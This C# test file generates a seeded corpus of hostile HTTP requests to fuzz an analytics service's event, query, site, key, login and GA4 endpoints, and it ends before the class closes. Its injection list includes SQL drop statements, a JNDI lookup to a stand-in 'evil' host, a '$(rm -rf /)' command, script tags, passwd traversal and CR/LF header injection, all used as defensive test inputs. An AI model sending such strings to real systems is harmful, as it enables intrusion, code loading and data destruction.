using System.Globalization;
using System.Net;
using System.Text;

namespace Analytics.Tests.Hostile;

/// <summary>
/// A generated corpus of hostile requests to every public endpoint. Deterministic: the same seed gives the same
/// requests, so a failure names a request that can be replayed. Beacons target <see cref="Site"/> only, never the
/// site the good traffic counts on.
/// </summary>
public static class HostileCorpus
{
    public const int Seed = 20261123;
    public const string Site = "hostile.test";

    /// <summary>The GA4 measurement id of <see cref="Site"/>.</summary>
    public const string MeasurementId = "G-HOSTILE01";

    /// <summary>Stands in a query string for the site's Measurement Protocol API secret, created when the test starts.</summary>
    public const string SecretPlaceholder = "{api_secret}";

    /// <summary>SQL, CQL and other injection-looking strings, put into every string field.</summary>
    public static readonly IReadOnlyList<string> Injections =
    [
        "' OR '1'='1", "'; DROP TABLE events; --", "\"; DROP KEYSPACE analytics; --", "1; SELECT * FROM grain_state",
        "Robert'); DELETE FROM checkpoints;--", "' UNION SELECT envelope FROM events --", "admin'/*", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master)--",
        "${jndi:ldap://evil/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "%00%0d%0a", "\u0000\u0001\u001f",
        "\ud83d\ude00 emoji", "\u202e right-to-left", "{{7*7}}", "$(rm -rf /)", "\\", "\"", "'",
    ];

    private static readonly string[] Methods = ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"];

    private static readonly string[] ContentTypes =
    [
        "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=utf-16",
        "image/png", "text/html", "application/json; charset=\"", ";;;", "application/*",
        "application/json; charset=bogus", "application/json; charset=\"utf-16\"", "text/plain; charset=utf-7",
    ];

    public static IReadOnlyList<HostileRequest> Generate(int seed = Seed)
    {
        var random = new Random(seed);
        var corpus = new List<HostileRequest>();
        corpus.AddRange(Events(random));
        corpus.AddRange(Queries(random));
        corpus.AddRange(Sites(random));
        corpus.AddRange(PlausibleV1(random));
        corpus.AddRange(Access(random));
        corpus.AddRange(Ga4(random));
        corpus.AddRange(Others(random));
        corpus.AddRange(HostileClasses.Generate());
        return corpus;
    }

    private static string ValidBeacon(string? referrer = null) =>
        $$"""{"name":"pageview","url":"https://{{Site}}/page","domain":"{{Site}}","referrer":{{(referrer is null ? "null" : Json(referrer))}}}""";

    private static string ValidQuery => $$"""{"site_id":"{{Site}}","metrics":["visitors","pageviews"],"date_range":"7d"}""";

    private static string ValidKey => $$"""{"name":"hostile","sites":["{{Site}}"],"permissions":["stats:read"]}""";

    private static string ValidSite => """{"domain":"hostile-site.test","timezone":"Etc/UTC","cookieless":false,"allowed_hostnames":[]}""";

    private static IEnumerable<HostileRequest> Events(Random random)
    {
        const string path = "/api/event";
        foreach (var r in Generic("event", path, ValidBeacon(), random, ["name", "url", "domain", "referrer", "props", "revenue", "screen_width", "interactive"]))
        {
            yield return r;
        }

        // Injection strings in every string field of an otherwise valid beacon (url as a path and a query).
        foreach (var text in Injections)
        {
            yield return Post("event:inject-name", path, $$"""{"name":{{Json(text)}},"url":"https://{{Site}}/","domain":"{{Site}}"}""");
            yield return Post("event:inject-url", path, $$"""{"name":"pageview","url":{{Json("https://" + Site + "/" + text + "?q=" + text)}},"domain":"{{Site}}"}""");
            yield return Post("event:inject-url-raw", path, $$"""{"name":"pageview","url":{{Json(text)}},"domain":"{{Site}}"}""");
            yield return Post("event:inject-domain", path, $$"""{"name":"pageview","url":"https://{{Site}}/","domain":{{Json(text)}}}""");
            yield return Post("event:inject-referrer", path, ValidBeacon(text));
            yield return Post("event:inject-props", path, $$"""{"name":"Signup","url":"https://{{Site}}/","domain":"{{Site}}","props":{{{Json(text)}}:{{Json(text)}}}""" + "}");
            yield return Post("event:inject-revenue", path, $$"""{"name":"Buy","url":"https://{{Site}}/","domain":"{{Site}}","revenue":{"currency":{{Json(text)}},"amount":{{Json(text)}}}""" + "}");
            yield return Post("event:inject-visitor", path, $$"""{"n":"pageview","u":"https://{{Site}}/","d":"{{Site}}","v":{{Json(text)}}}""", "text/plain");
            yield return Post("event:inject-ua", path, ValidBeacon()) .Header("User-Agent", text);
        }

        // Huge strings in each field (over and under the beacon's byte limit).
        foreach (var size in new[] { 3000, 100_000, 2_000_000 })
        {
            var huge = RandomText(random, size);
            yield return Post("event:huge-url", path, $$"""{"name":"pageview","url":"https://{{Site}}/{{huge}}","domain":"{{Site}}"}""") with { MustReject = size > 4096 };
            yield return Post("event:huge-name", path, $$"""{"name":"{{huge}}","url":"https://{{Site}}/","domain":"{{Site}}"}""") with { MustReject = size > 4096 };
            yield return Post("event:huge-domain", path, $$"""{"name":"pageview","url":"https://{{Site}}/","domain":"{{huge}}"}""") with { MustReject = size > 4096 };
        }

        // Numbers at and beyond every bound.
        foreach (var number in new[] { "-1", "0", "2147483648", "-9223372036854775809", "1e308", "1e309", "-0", "0.5", "NaN", "Infinity", "99999999999999999999999999999999" })
        {
            yield return Post("event:number-width", path, $$"""{"n":"pageview","u":"https://{{Site}}/","d":"{{Site}}","w":{{number}}}""");
            yield return Post("event:number-engaged", path, $$"""{"n":"engagement","u":"https://{{Site}}/","d":"{{Site}}","e":{{number}}}""");
            yield return Post("event:number-revenue", path, $$"""{"n":"Buy","u":"https://{{Site}}/","d":"{{Site}}","$":{"currency":"EUR","amount":{{number}}}""" + "}");
        }

        // Header injection and abuse: CR/LF in User-Agent and X-Forwarded-For, garbage hops, enormous values.
        string[] headerValues =
        [
            "Mozilla/5.0\r\nX-Injected: 1", "Mozilla/5.0\nSet-Cookie: a=b", "\r\n\r\nGET / HTTP/1.1", "\0", new string('A', 200_000),
            "Mozilla/5.0 (compatible; Googlebot/2.1)\r\n", "\u00ff\u00fe", "Chrome/120.0\u0000.0",
        ];
        string[] forwarded =
        [
            "203.0.113.9\r\nX-Injected: 1", "not-an-ip", "999.999.999.999", "1.2.3.4, , ,", "::ffff:10.0.0.1, 10.0.0.1", "fe80::1%eth0",
            "[2001:db8::1]:443", "1.2.3.4:5678", string.Join(", ", Enumerable.Range(0, 5000).Select(i => $"10.{i / 256 % 256}.{i % 256}.1")),
            "unknown", "_hidden", "\0\0\0", "2001:db8::" + new string('f', 10_000),
        ];
        foreach (var value in headerValues)
        {
            yield return Post("event:header-ua", path, ValidBeacon()) .Header("User-Agent", value);
        }

        foreach (var value in forwarded)
        {
            // From a trusted proxy (loopback), so the header is actually walked.
            yield return Post("event:header-xff", path, ValidBeacon()) .Header("X-Forwarded-For", value) with { RemoteIp = IPAddress.Loopback };
        }

        yield return Post("event:header-many", path, ValidBeacon()) with
        {
            Headers = Enumerable.Range(0, 500).ToDictionary(i => $"X-Junk-{i}", i => RandomText(random, 100)),
        };
        yield return Post("event:header-content-length-lie", path, ValidBeacon()) .Header("Content-Length", "99999999999") with { MustReject = true };
    }

    private static IEnumerable<HostileRequest> Queries(Random random)
    {
        const string path = "/api/v2/query";
        foreach (var r in Generic("query", path, ValidQuery, random, ["site_id", "metrics", "date_range", "dimensions", "filters", "order_by", "pagination", "date"]))
        {
            yield return r;
        }

        // Absurd dates and ranges.
        string[] ranges =
        [
            """["0001-01-01","0001-01-01"]""", """["9999-12-31","9999-12-31"]""", """["0001-01-01","9999-12-31"]""", """["9999-12-30","9999-12-31"]""",
            """["0001-01-01T00:00:00Z","0001-01-01T05:00:00Z"]""", """["9999-12-31T20:00:00Z","9999-12-31T23:59:59Z"]""",
            """["9999-12-31T23:59:59-14:00","9999-12-31T23:59:59-14:00"]""", """["0001-01-01T00:00:00+14:00","0001-01-01T01:00:00+14:00"]""",
            """["2026-02-30","2026-03-01"]""", """["2026-13-01","2026-13-02"]""", """["-2026-01-01","2026-01-01"]""", """["+002026-01-01","2026-01-02"]""",
            """["2026-01-01",null]""", """[1,2]""", """[]""", """["2026-01-01","2026-01-02","2026-01-03"]""", "\"\"", "null", "42", "{}", "\"9999d\"",
            """["2026-01-01T00:00:00Z","2025-01-01T00:00:00Z"]""", """["1970-01-01T00:00:00Z","2026-01-01T00:00:00Z"]""",
        ];
        string[] dates = ["\"0001-01-01\"", "\"9999-12-31\"", "\"0000-00-00\"", "\"2026-02-29\"", "null", "20260101", "\"2026-01-01T00:00:00Z\""];
        string[] presets = ["day", "7d", "28d", "30d", "91d", "month", "6mo", "12mo", "year", "all"];
        string[] dimensionSets = ["[]", """["time"]""", """["time:hour"]""", """["time:day"]""", """["event:page","time:day"]""", """["visit:source","time:hour"]"""];
        foreach (var range in ranges)
        {
            foreach (var dimensions in dimensionSets)
            {
                yield return Post("query:range", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":{{range}},"dimensions":{{dimensions}}}""");
            }
        }

        foreach (var date in dates)
        {
            foreach (var preset in presets)
            {
                var dimensions = dimensionSets[random.Next(dimensionSets.Length)];
                yield return Post("query:date", path, $$"""{"site_id":"{{Site}}","metrics":["visitors","visit_duration"],"date_range":"{{preset}}","date":{{date}},"dimensions":{{dimensions}}}""");
            }
        }

        // Pagination, metrics and filters at and beyond their bounds.
        foreach (var number in new[] { "-1", "0", "2147483648", "1e308", "0.5", "\"10\"", "null", "99999999999999999999999" })
        {
            yield return Post("query:pagination", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"pagination":{"limit":{{number}},"offset":{{number}}}""" + "}");
        }

        var manyMetrics = string.Join(",", Enumerable.Repeat("\"visitors\"", 20_000));
        yield return Post("query:many-metrics", path, $$"""{"site_id":"{{Site}}","metrics":[{{manyMetrics}}],"date_range":"day"}""");
        var manyValues = string.Join(",", Enumerable.Range(0, 20_000).Select(i => Json("/p" + i)));
        yield return Post("query:many-filter-values", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"filters":[["is","event:page",[{{manyValues}}]]]}""");
        var manyFilters = string.Join(",", Enumerable.Range(0, 2_000).Select(_ => """["contains","event:page",["a"]]"""));
        yield return Post("query:many-filters", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","filters":[{{manyFilters}}]}""");
        var manyOrders = string.Join(",", Enumerable.Range(0, 2_000).Select(_ => """["visitors","desc"]"""));
        yield return Post("query:many-orders", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"order_by":[{{manyOrders}}]}""");

        foreach (var text in Injections)
        {
            yield return Post("query:inject-site", path, $$"""{"site_id":{{Json(text)}},"metrics":["visitors"],"date_range":"day"}""") with { MustReject = true };
            yield return Post("query:inject-metric", path, $$"""{"site_id":"{{Site}}","metrics":[{{Json(text)}}],"date_range":"day"}""") with { MustReject = true };
            yield return Post("query:inject-range", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":{{Json(text)}}}""") with { MustReject = true };
            yield return Post("query:inject-dimension", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":[{{Json(text)}}]}""") with { MustReject = true };
            yield return Post("query:inject-filter", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"filters":[["is","event:page",[{{Json(text)}}]],[{{Json(text)}},"event:page",["x"]]]}""") with { MustReject = true };
            yield return Post("query:inject-filter-value", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["visit:source"],"filters":[["contains","visit:source",[{{Json(text)}}]]]}""");
            yield return Post("query:inject-order", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","order_by":[["visitors",{{Json(text)}}]]}""") with { MustReject = true };
            yield return Post("query:inject-date", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","date":{{Json(text)}}}""") with { MustReject = true };
            yield return new HostileRequest("realtime:inject", "GET", "/api/v1/realtime/visitors", "?site_id=" + Uri.EscapeDataString(text));
        }

        yield return Post("query:huge-site", path, $$"""{"site_id":"{{RandomText(random, 500_000)}}","metrics":["visitors"],"date_range":"day"}""") with { MustReject = true };
        yield return new HostileRequest("realtime:huge", "GET", "/api/v1/realtime/visitors", "?site_id=" + RandomText(random, 6_000));
        yield return new HostileRequest("realtime:repeated", "GET", "/api/v1/realtime/visitors", $"?site_id={Site}&site_id=other.test");
        yield return new HostileRequest("realtime:crlf", "GET", "/api/v1/realtime/visitors", "?site_id=a%0d%0aX-Injected:%201");
        yield return new HostileRequest("realtime:empty", "GET", "/api/v1/realtime/visitors", "?site_id=") { MustReject = true };
        yield return new HostileRequest("realtime:bad-escape", "GET", "/api/v1/realtime/visitors", "?site_id=%ZZ%");
    }

    private static IEnumerable<HostileRequest> Sites(Random random)
    {
        const string path = "/api/sites";
        foreach (var r in Generic("sites", path, ValidSite, random, ["domain", "timezone", "cookieless", "allowed_hostnames"]))
        {
            yield return r;
        }

        foreach (var text in Injections)
        {
            yield return Post("sites:inject-domain", path, $$"""{"domain":{{Json(text)}}}""") with { MustReject = true };
            yield return Post("sites:inject-timezone", path, $$"""{"domain":"tz.test","timezone":{{Json(text)}}}""") with { MustReject = true };
            yield return Post("sites:inject-hostnames", path, $$"""{"domain":"hn.test","allowed_hostnames":[{{Json(text)}}]}""") with { MustReject = true };
            if (!text.Contains('\0', StringComparison.Ordinal))
            {
                // A NUL in the path never reaches the app (Kestrel refuses it: KestrelLimitTests); the in-memory server cannot carry one.
                yield return new HostileRequest("sites:inject-get", "GET", "/api/sites/" + Uri.EscapeDataString(text));
                yield return new HostileRequest("sites:inject-delete", "DELETE", "/api/sites/" + Uri.EscapeDataString(text)) { MustReject = true };
                yield return new HostileRequest("export:inject-domain", "GET", $"/api/sites/{Uri.EscapeDataString(text)}/export/events.csv", "?from=2026-01-01&to=2026-01-02") { MustReject = true };
            }

            yield return new HostileRequest("export:inject-from", "GET", $"/api/sites/{Site}/export/events.csv", $"?from={Uri.EscapeDataString(text)}&to=2026-01-02") { MustReject = true };
            yield return new HostileRequest("export:inject-granularity", "GET", $"/api/sites/{Site}/export/aggregates.csv", $"?from=2026-01-01&to=2026-01-02&granularity={Uri.EscapeDataString(text)}") { MustReject = true };
        }

        string[] timezones = ["Etc/GMT+14", "Etc/GMT-15", "../../../etc/localtime", "/etc/passwd", "UTC\0", "Local", "", " ", new string('Z', 100_000), "Europe/Berlin/../../x"];
        foreach (var zone in timezones)
        {
            yield return Post("sites:timezone", path, $$"""{"domain":"tz.test","timezone":{{Json(zone)}}}""");
        }

        yield return Post("sites:many-hostnames", path, $$"""{"domain":"hn.test","allowed_hostnames":[{{string.Join(",", Enumerable.Range(0, 50_000).Select(i => $"\"h{i}.test\""))}}]}""") with { MustReject = true };
        yield return Post("sites:huge-domain", path, $$"""{"domain":"{{RandomText(random, 300_000)}}"}""") with { MustReject = true };
        yield return new HostileRequest("sites:huge-get", "GET", "/api/sites/" + new string('a', 10_000));
        yield return new HostileRequest("sites:encoded-get", "GET", "/api/sites/%0d%0a..%2f..%2f%2e%2e");
    }

    /// <summary>Plausible's Stats API v1 (query strings) and Sites API paths.</summary>
    private static IEnumerable<HostileRequest> PlausibleV1(Random random)
    {
        string[] endpoints = ["aggregate", "timeseries", "breakdown"];
        string[] rejected = ["period", "date", "property", "metrics", "compare", "interval", "limit", "page"];
        foreach (var text in Injections.Append(RandomText(random, 6_000)))
        {
            var value = Uri.EscapeDataString(text);
            foreach (var endpoint in endpoints)
            {
                var path = "/api/v1/stats/" + endpoint;
                var valid = $"?site_id={Site}&period=7d&property=event:page";
                yield return new HostileRequest("v1:inject-site", "GET", path, $"?site_id={value}&property=event:page") { MustReject = true };
                yield return new HostileRequest("v1:inject-filters", "GET", path, valid + "&filters=" + value);
                yield return new HostileRequest("v1:inject-filter-value", "GET", path, valid + "&filters=" + Uri.EscapeDataString("event:page==" + text));
                foreach (var parameter in rejected.Where(p => !(endpoint != "breakdown" && p is "property" or "limit" or "page") && !(endpoint != "aggregate" && p == "compare") && !(endpoint != "timeseries" && p == "interval")))
                {
                    yield return new HostileRequest($"v1:inject-{parameter}", "GET", path, $"{valid}&{parameter}={value}") { MustReject = true };
                }
            }

            yield return new HostileRequest("v1:inject-realtime", "GET", "/api/v1/stats/realtime/visitors", "?site_id=" + value);
            yield return Post("sites-v1:inject-domain", "/api/v1/sites", $$"""{"domain":{{Json(text)}},"timezone":"Etc/UTC"}""") with { MustReject = true };
            yield return Post("sites-v1:inject-timezone", "/api/v1/sites", $$"""{"domain":"v1tz.test","timezone":{{Json(text)}}}""") with { MustReject = true };
            yield return new HostileRequest("sites-v1:inject-link", "PUT", "/api/v1/sites/shared-links")
            {
                Body = Encoding.UTF8.GetBytes($$"""{"site_id":{{Json(text)}},"name":{{Json(text)}}}"""),
                ContentType = "application/json",
                MustReject = true,
            };
            if (!text.Contains('\0', StringComparison.Ordinal) && text.Length < 1_000)
            {
                yield return new HostileRequest("sites-v1:inject-get", "GET", "/api/v1/sites/" + value);
                yield return new HostileRequest("sites-v1:inject-delete", "DELETE", "/api/v1/sites/" + value) { MustReject = true };
            }
        }

        foreach (var number in new[] { "-1", "0", "2147483648", "1e308", "0.5", "99999999999999999999999", "" })
        {
            yield return new HostileRequest("v1:breakdown-paging", "GET", "/api/v1/stats/breakdown", $"?site_id={Site}&property=event:page&limit={number}&page={number}");
        }

        foreach (var body in new[] { "", "{", "[]", "null", "\"x\"", "{\"domain\":5}", "{\"site_id\":\"\"}", "{}", RandomText(random, 300_000) })
        {
            yield return Post("sites-v1:body", "/api/v1/sites", body) with { MustReject = true };
            yield return new HostileRequest("sites-v1:link-body", "PUT", "/api/v1/sites/shared-links") { Body = Encoding.UTF8.GetBytes(body), ContentType = "application/json", MustReject = true };
        }
    }

    /// <summary>
    /// API keys, share links, credentials and the login form. Requests carry the test key unless they set their own
    /// Authorization; these try broken, injected and huge credentials (401), and hostile key requests.
    /// </summary>
    private static IEnumerable<HostileRequest> Access(Random random)
    {
        const string keys = "/api/keys";
        foreach (var r in Generic("keys", keys, ValidKey, random, ["name", "sites", "permissions"]))
        {
            yield return r;
        }

        var query = Encoding.UTF8.GetBytes(ValidQuery);
        string[] credentials = ["", "Bearer", "Bearer ", "bearer ag_x", "Basic YWRtaW46YWRtaW4=", "Bearer ag_" + RandomText(random, 43), "Bearer " + RandomText(random, 20_000),
            "Bearer ag_\u00e9\u00e8", "Bearer ag_a, Bearer ag_b", "Digest username=\"admin\"", "Negotiate YIIB"];
        foreach (var credential in credentials.Concat(Injections.Where(t => !t.Contains('\0', StringComparison.Ordinal)).Select(t => "Bearer " + t)))
        {
            yield return new HostileRequest("access:authorization", "POST", "/api/v2/query") { Body = query, ContentType = "application/json", MustReject = true }
                .Header("Authorization", credential.Length == 0 ? "Bearer" : credential);
            yield return new HostileRequest("access:share", "POST", "/api/v2/query") { Body = query, ContentType = "application/json", MustReject = true }
                .Header("Authorization", "").Header("X-Analytics-Share", credential);
        }

        foreach (var text in Injections)
        {
            yield return Post("keys:inject-name", keys, $$"""{"name":{{Json(text)}},"sites":["{{Site}}"],"permissions":["stats:read"]}""");
            yield return Post("keys:inject-site", keys, $$"""{"name":"k","sites":[{{Json(text)}}],"permissions":["stats:read"]}""") with { MustReject = true };
            yield return Post("keys:inject-permission", keys, $$"""{"name":"k","sites":["{{Site}}"],"permissions":[{{Json(text)}}]}""") with { MustReject = true };
            if (!text.Contains('\0', StringComparison.Ordinal))
            {
                yield return new HostileRequest("keys:inject-revoke", "DELETE", keys + "/" + Uri.EscapeDataString(text)) { MustReject = true };
                yield return new HostileRequest("share:inject-revoke", "DELETE", $"/api/sites/{Site}/shared-links/" + Uri.EscapeDataString(text)) { MustReject = true };
                yield return new HostileRequest("share:inject-site", "POST", $"/api/sites/{Uri.EscapeDataString(text)}/shared-links") { Body = [], ContentType = "application/json", MustReject = true };
                yield return new HostileRequest("login:inject-return", "GET", "/login", "?ReturnUrl=" + Uri.EscapeDataString(text));
            }

            yield return Post("login:inject", "/login", $"email={Uri.EscapeDataString(text)}&password={Uri.EscapeDataString(text)}&returnUrl={Uri.EscapeDataString(text)}",
                "application/x-www-form-urlencoded") with { MustReject = true };
        }

        yield return Post("keys:many-sites", keys, $$"""{"name":"k","sites":[{{string.Join(",", Enumerable.Range(0, 5_000).Select(i => $"\"s{i}.test\""))}}],"permissions":["stats:read"]}""") with { MustReject = true };
        yield return Post("keys:huge-name", keys, $$"""{"name":"{{RandomText(random, 200_000)}}","sites":["{{Site}}"],"permissions":["stats:read"]}""") with { MustReject = true };
        yield return Post("login:json", "/login", """{"email":"admin@tests.local","password":"x"}""") with { MustReject = true };
        yield return Post("login:multipart", "/login", "--x\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\na", "multipart/form-data; boundary=x") with { MustReject = true };
        yield return Post("login:huge", "/login", "email=" + RandomText(random, 500_000), "application/x-www-form-urlencoded") with { MustReject = true };
        yield return Post("login:broken-form", "/login", "%%%=&&==%zz", "application/x-www-form-urlencoded") with { MustReject = true };
        yield return Post("logout:anonymous", "/logout", "").Header("Authorization", "");
    }

    /// <summary>
    /// GA4's doors. /mp/collect answers 204 whatever the body (Google's documented answer: nothing is counted then);
    /// /debug/mp/collect answers 200 and must name the problem; /g/collect answers 204. Secrets are managed like keys.
    /// </summary>
    private static IEnumerable<HostileRequest> Ga4(Random random)
    {
        var collect = $"?measurement_id={MeasurementId}&api_secret={SecretPlaceholder}";
        string[] fields = ["client_id", "user_id", "timestamp_micros", "user_properties", "consent", "events", "non_personalized_ads"];
        foreach (var r in Generic("mp", "/mp/collect", ValidMp, random, fields, r => r))
        {
            yield return r with { Query = collect };
        }

        foreach (var r in Generic("mp-debug", "/debug/mp/collect", ValidMp, random, fields, r => r with { ExpectsValidationMessages = true }))
        {
            yield return r with { Query = collect };
        }

        foreach (var r in Generic("mp-secrets", $"/api/sites/{Site}/mp-secrets", """{"name":"hostile"}""", random, ["name"]))
        {
            yield return r;
        }

        // Google's limits, one past each, and values of every odd kind in every place (all invalid, but for the odd-but-valid ones below).
        string[] payloads =
        [
            "{\"client_id\":\"1.2\",\"events\":[" + string.Join(",", Enumerable.Repeat("{\"name\":\"page_view\"}", 26)) + "]}",
            "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"e\",\"params\":{" + string.Join(",", Enumerable.Range(0, 26).Select(i => $"\"p{i}\":1")) + "}}]}",
            "{\"client_id\":\"1.2\",\"user_properties\":{" + string.Join(",", Enumerable.Range(0, 26).Select(i => $"\"u{i}\":{{\"value\":1}}")) + "},\"events\":[{\"name\":\"e\"}]}",
            $$"""{"client_id":"1.2","events":[{"name":"{{new string('n', 41)}}"}]}""",
            "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"e\",\"params\":{\"p\":\"" + new string('v', 101) + "\"}}]}",
            "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"purchase\",\"params\":{\"items\":[" + string.Join(",", Enumerable.Repeat("{\"item_id\":\"x\",\"price\":\"NaN\",\"quantity\":1e308,\"x\":{}}", 200)) + "]}}]}",
            """{"client_id":"1.2","events":[{"name":"purchase","params":{"items":"not a list","value":"abc","currency":"EURO"}}]}""",
            """{"client_id":"1.2","events":[{"name":"purchase","params":{"items":[1,[],null],"value":1e400,"currency":1}}]}""",
            """{"client_id":"1.2","events":[{"name":"session_start"},{"name":"_x"},{"name":"google_x"},{"name":""},{"name":null},{"name":7}]}""",
            """{"client_id":"1.2","events":[{"name":"e","params":{"firebase_conversion":1,"ga_x":1,"google_x":1,"_x":1,"":1,"a b":1}}]}""",
            """{"client_id":"1.2","user_properties":{"user_id":{"value":1},"x":1,"y":{"value":{"a":1}},"z":{}},"events":[{"name":"e"}]}""",
            """{"client_id":"1.2","consent":{"ad_user_data":"MAYBE","ad_personalization":1},"events":[{"name":"e"}]}""",
            """{"client_id":"1.2","events":[{"name":"e","timestamp_micros":"12abc"},{"name":"e","timestamp_micros":-1},{"name":"e","timestamp_micros":99999999999999999999}]}""",
            """{"client_id":"1.2","timestamp_micros":1,"events":[{"name":"e"}]}""",
            """{"client_id":"1.2","timestamp_micros":9223372036854775807,"events":[{"name":"e"}]}""",
            """{"client_id":"1.2","timestamp_micros":"9223372036854775808","events":[{"name":"e"}]}""",
            """{"client_id":"1.2","timestamp_micros":1.5,"events":[{"name":"e"}]}""",
            $$"""{"client_id":"{{new string('c', 300)}}","user_id":"{{new string('u', 300)}}","events":[{"name":"e"}]}""",
            """{"client_id":"1.2","events":[{"name":"e","params":{"a":1,"a":2}}],"events":[]}""",
        ];
        string[] oddButValid =
        [
            """{"client_id":"1.2","events":[{"name":"refund","params":{"value":-99999999999999999999999999999,"currency":"usd"}}]}""",
            """{"client_id":"1.2","device":{"category":7,"screen_resolution":"99999999999x1","browser":["x"]},"user_location":{"country_id":"ZZZ"},"ip_override":"not an ip","events":[{"name":"e"}]}""",
            """{"client_id":"1.2","ip_override":"203.0.113.7","user_location":{"country_id":"DE"},"events":[{"name":"page_view","params":{"page_location":"javascript:alert(1)"}}]}""",
            """{"client_id":"1.2","events":[{"name":"page_view","params":{"page_location":"https://hostile.test/","session_id":"\u0000\u0001","engagement_time_msec":-5}}]}""",
        ];
        foreach (var (payload, invalid) in payloads.Select(p => (p, true)).Concat(oddButValid.Select(p => (p, false))))
        {
            yield return Post("mp:limits", "/mp/collect", payload) with { Query = collect };
            yield return Post("mp-debug:limits", "/debug/mp/collect", payload) with { Query = collect, ExpectsValidationMessages = invalid };
        }

        // Injection strings in each field, the measurement id and the secret.
        foreach (var text in Injections)
        {
            var json = Json(text);
            yield return Post("mp:inject-client", "/mp/collect", $$"""{"client_id":{{json}},"events":[{"name":"page_view"}]}""") with { Query = collect };
            yield return Post("mp:inject-name", "/mp/collect", $$"""{"client_id":"1.2","events":[{"name":{{json}}}]}""") with { Query = collect };
            yield return Post("mp:inject-params", "/mp/collect", "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"page_view\",\"params\":{\"page_location\":" + json + ",\"page_referrer\":" + json + ",\"x\":" + json + "}}]}") with { Query = collect };
            yield return Post("mp:inject-revenue", "/mp/collect", "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"purchase\",\"params\":{\"value\":" + json + ",\"currency\":" + json + "}}]}") with { Query = collect };
            yield return Post("mp:inject-measurement-id", "/mp/collect", ValidMp) with { Query = "?measurement_id=" + Uri.EscapeDataString(text) + "&api_secret=" + Uri.EscapeDataString(text) };
            yield return Post("mp-debug:inject-name", "/debug/mp/collect", $$"""{"client_id":"1.2","events":[{"name":{{json}}}]}""") with { ExpectsValidationMessages = true };
            yield return Post("gtag:inject", "/g/collect", "en=" + Uri.EscapeDataString(text) + "&ep.x=" + Uri.EscapeDataString(text) + "&epn.y=" + Uri.EscapeDataString(text), "text/plain")
                with { Query = $"?v=2&tid={MeasurementId}&cid=1.2&dl=" + Uri.EscapeDataString(text) + "&dr=" + Uri.EscapeDataString(text) + "&sr=" + Uri.EscapeDataString(text) };
            yield return new HostileRequest("gtag:inject-tid", "GET", "/g/collect", "?v=2&en=page_view&cid=1.2&tid=" + Uri.EscapeDataString(text));
            if (!text.Contains('\0', StringComparison.Ordinal))
            {
                yield return new HostileRequest("mp-secrets:inject-revoke", "DELETE", $"/api/sites/{Site}/mp-secrets/" + Uri.EscapeDataString(text)) { MustReject = true };
            }
        }

        // gtag.js hits: odd query strings, lines and bodies.
        var tag = $"?v=2&tid={MeasurementId}&cid=1.2&sid=1&dl=https%3A%2F%2Fhostile.test%2F";
        string[] bodies =
        [
            "", "\n\n\n", "en=page_view\n" + new string('x', 100_000), string.Join("\n", Enumerable.Repeat("en=scroll&epn.percent_scrolled=90", 500)),
            "en=page_view&&&===&%%%&%ZZ&ep.=1&epn.=x&ep." + new string('k', 500) + "=1", "en=a%00b", "en=page_view&_et=-1&_et=99999999999999999999",
            "en=page_view&sr=0x0", "en=page_view&sr=-5x-5", "en=page_view&sr=99999999999999x1", "en=purchase&epn.value=1e309&cu=%E2%82%AC",
            "en=purchase&epn.value=NaN&cu=EUR", string.Join("&", Enumerable.Range(0, 2_000).Select(i => $"ep.p{i}=v")) + "&en=e",
        ];
        foreach (var body in bodies)
        {
            yield return Post("gtag:body", "/g/collect", body, "text/plain") with { Query = tag };
        }

        yield return Post("gtag:invalid-utf8", "/g/collect", [.. Encoding.UTF8.GetBytes("en=page_view&ep.x="), 0xFF, 0xC3, 0x28], "text/plain") with { Query = tag };
        yield return Post("gtag:too-large", "/g/collect", "en=page_view&ep.x=" + RandomText(random, 200_000), "text/plain") with { Query = tag };
        string[] queries = ["", "?", "?v=2", "?v=3&tid=" + MeasurementId, "?tid=" + MeasurementId + "&cid=1&en=page_view", "?v=2&v=2&tid=a&tid=b&cid=1&en=page_view",
            "?v=2&tid=" + MeasurementId + "&cid=1.2&en=page_view&dl=" + RandomText(random, 6_000), "?%ZZ=%ZZ&v=2", "?v=2&tid=" + MeasurementId + "&cid=" + new string('c', 5_000) + "&en=page_view"];
        foreach (var query in queries)
        {
            yield return new HostileRequest("gtag:query", "GET", "/g/collect", query);
            yield return Post("gtag:query-post", "/g/collect", "", "text/plain") with { Query = query };
        }

        foreach (var method in new[] { "PUT", "DELETE", "PATCH" })
        {
            yield return new HostileRequest("wrong-method:gtag", method, "/g/collect", tag) { MustReject = true };
            yield return new HostileRequest("wrong-method:mp", method, "/mp/collect", collect) { MustReject = true };
        }

        var tooLarge = "{\"client_id\":\"1.2\",\"events\":[{\"name\":\"e\",\"params\":{\"p\":\"" + RandomText(random, 200_000) + "\"}}]}";
        yield return Post("mp:too-large", "/mp/collect", tooLarge) with { Query = collect };
        yield return Post("mp-debug:too-large", "/debug/mp/collect", tooLarge) with { ExpectsValidationMessages = true };
    }

    private static string ValidMp => $$$"""{"client_id":"123456.7654321","events":[{"name":"page_view","params":{"page_location":"https://{{{Site}}}/ga4","session_id":"1","engagement_time_msec":"100"}}]}""";

